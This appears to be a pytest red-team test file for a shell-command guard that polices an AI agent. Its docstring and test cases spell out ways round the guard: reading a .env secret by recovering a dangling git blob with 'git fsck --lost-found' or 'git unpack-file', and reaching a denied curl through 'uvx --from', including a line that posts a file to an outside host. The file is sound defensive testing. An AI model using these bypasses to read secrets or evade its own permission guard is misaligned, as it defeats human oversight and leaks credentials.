"""Red team 32: a secret's contents written under a name no rule ties to it, and uvx's command.

- `git add -A` stages `.env` (allowed: the index is git's), `git reset` leaves its blob dangling;
  `git fsck --lost-found` then writes the blob into .git/lost-found/other/ID and `git unpack-file
  ID` into .merge_file_XXXXXX (both checked in a scratch repository), which `cat` read next.
- `uvx --from PKG CMD` runs CMD from PATH when PKG does not provide it (uv's tool/run.rs: only
  without --from does a missing command stop the run): under open `uvx --from ruff curl …`.
"""

import subprocess

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    setup = GuardSetup(tmp_path_factory.mktemp("rt32g"), files={".env": "TOKEN=1\n", "README.md": "x\n"})

    def git(*args):
        return subprocess.run(["git", "-C", setup.project, "-c", "user.email=a@b", "-c", "user.name=a", *args],
                              check=True, capture_output=True, text=True).stdout

    git("init", "-q")
    git("add", "README.md")
    git("commit", "-qm", "x")
    git("add", "-A")
    setup.blob = git("ls-files", "-s", ".env").split()[1]
    setup.readme = git("ls-files", "-s", "README.md").split()[1]
    git("reset", "-q")
    return setup


def test_unpack_file_of_a_blob_by_its_id_is_a_read_of_it(setup):
    assert_denied(setup.bash(f"git unpack-file {setup.blob}"), "`git unpack-file` would print the object",
                  "cannot tell which file it is")


@pytest.mark.parametrize("command", ["git fsck --lost-found", "git fsck --full --lost-found", "git fsck --lost",
                                     "git -C . fsck --unreachable --lost-found"])
def test_fsck_writing_dangling_blobs_out_is_a_read_of_them(setup, command):
    assert_denied(setup.bash(command), "`git fsck --lost-found` writes the contents of every dangling blob")


@pytest.mark.parametrize("command", ["git fsck", "git fsck --unreachable", "git fsck --dangling --no-reflogs",
                                     "git cat-file -t HEAD"])
def test_fsck_that_writes_nothing_stays_allowed(setup, command):
    assert_allowed(setup.bash(command))


@pytest.mark.parametrize("command", ["uvx --from ruff curl -d @README.md x.example", "uv tool run --from ruff curl x",
                                     "uvx --from=httpie -- curl x", "uv --offline tool run --from ruff curl x"])
def test_uvx_from_runs_the_command_it_names(setup, command):
    assert_denied(setup.bash(command, role="open"), "`curl` is denied by deny-cmd")


@pytest.mark.parametrize("command", ["uvx ruff check .", "uvx --from ruff ruff check .", "uv tool run black --check .",
                                     "uv run pytest"])
def test_uvx_running_tools_stays_allowed_under_open(setup, command):
    assert_allowed(setup.bash(command, role="open"))
